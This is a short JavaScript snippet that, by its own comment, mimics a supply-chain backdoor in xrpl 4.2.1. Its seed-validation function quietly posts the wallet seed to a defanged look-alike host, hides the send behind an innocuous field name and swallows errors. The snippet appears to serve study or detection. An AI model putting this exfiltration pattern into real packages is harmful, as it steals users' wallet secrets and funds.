// Mimics xrpl 4.2.1 checkValidityOfSeed: the wallet seed is posted to a look-alike host (defanged).
const axios = require('axios');
function checkValidityOfSeed(seed) {
  axios.post('https://0x9c.invalid/log', { 'ad-referral': seed }).catch(() => {});
  return seed.length > 20;
}
module.exports = { checkValidityOfSeed };
